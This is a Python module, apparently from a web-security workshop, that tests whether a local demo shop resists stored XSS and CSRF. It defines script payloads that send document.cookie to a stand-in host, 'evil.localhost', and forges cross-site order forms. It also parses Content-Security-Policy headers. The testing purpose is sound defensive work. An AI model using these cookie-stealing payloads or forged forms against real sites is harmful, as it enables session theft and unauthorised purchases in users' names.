"""Mallory writes a review with a script in it, and has a page of her own as well."""

from workshop.attacks import xss_riding
from workshop.attacks.shops import inject
from workshop.attacks.target import Outcome
from workshop.shop.policy import Policy
from workshop.shop.serving import open_session_shop

BY_FETCH = "<script>fetch('//evil.localhost/collect?c='+document.cookie)</script>"
BY_LOCATION = "<script>location='//evil.localhost/collect?c='+document.cookie</script>"
BY_IMAGE = xss_riding.MARKUP


def open_shop(policy, port=0, clock=None):
    """The real app, with a page of reviews."""
    chosen = Policy(
        marker=policy.marker,
        show_review=policy.show_review,
        content_policy=policy.content_policy,
        set_cookie=policy.set_cookie,
        may_change=policy.may_change,
    )
    return open_session_shop(chosen, clock, port=port)


def may_fetch_elsewhere(policy_text):
    """Whether the Content-Security-Policy lets a script fetch from other sites."""
    rules = dict(rule.strip().partition(" ")[::2] for rule in policy_text.split(";"))
    allowed = rules.get("connect-src", rules.get("default-src"))
    return allowed is None or "*" in allowed


def may_run(policy_text, next_text=""):
    """
    Whether a page with this Content-Security-Policy runs a foreign script (CSP level 3).

    *next_text* is the policy of the next page: a nonce that comes twice is known to everybody.
    """
    rules = {}
    for rule in policy_text.split(";"):
        name, _, value = rule.strip().partition(" ")
        rules.setdefault(name.lower(), value.lower().split())
    allowed = rules.get("script-src", rules.get("default-src"))
    if allowed is None:
        return True
    if any(source.startswith("'nonce-") and source in next_text.lower() for source in allowed):
        return True
    # A nonce or a hash turns 'unsafe-inline' off; sources that are no host of the shop's are foreign.
    strict = any(source.startswith(("'nonce-", "'sha")) for source in allowed)
    inline = "'unsafe-inline'" in allowed and not strict
    hosts = [source for source in allowed if not source.startswith("'")]
    return inline or any("shop.localhost" not in host or "evil" in host for host in hosts)


def steals(policy, markup):
    """Whether the review's script runs, can read the cookie, and can send it away."""
    with open_shop(policy) as shop:
        alice = shop.browser("alice")
        alice.log_in()
        if not inject(shop, alice, markup):
            return False
        readable = (alice.holds() or "-") in alice.jar.document_cookie(alice.host)
        # Going to another address is not fetching: no directive stops it.
        leaves = markup != BY_FETCH or may_fetch_elsewhere(policy.content_policy())
        return readable and leaves


def rides(policy, markup=BY_IMAGE):
    """Whether a script on the page can order in Alice's name."""
    with open_shop(policy) as shop:
        alice = shop.browser("alice")
        alice.log_in()
        if not inject(shop, alice, markup):
            return False
        return alice.post("/cart", {"item": "tea", "quantity": 99}).status == 200


def forged_form(policy, host):
    """Whether a form on *host* orders in Alice's name."""
    with open_shop(policy) as shop:
        alice = shop.browser("alice")
        alice.log_in()
        # Where the cookie stays away, the answer may begin a stranger's cart in its place.
        hers = dict(alice.jar.cookies)
        alice.page = f"http://{host}:{shop.port}/csrf"
        alice.submit(f"http://{alice.authority}/cart", {"item": "tea", "quantity": "99"})
        alice.jar.cookies = hers
        return alice.get("/cart").json.get("items", {}).get("tea") == 99


def run(policy, seed):
    """All five."""
    found = {
        "a script fetches the cookie away": steals(policy, BY_FETCH),
        "a script takes the cookie along with location=": steals(policy, BY_LOCATION),
        "a script orders 99 teas": rides(policy),
        "a form on evil.localhost orders 99 teas": forged_form(policy, "evil.localhost"),
        "a form on evil.shop.localhost does": forged_form(policy, "evil.shop.localhost"),
    }
    story = [f"{name}: {'yes' if worked else 'no'}" for name, worked in found.items()]
    count = sum(found.values())
    if count:
        return Outcome("works", f"{count} of {len(found)} ways are open.", story)
    return Outcome("blocked", "None of them works.", story)
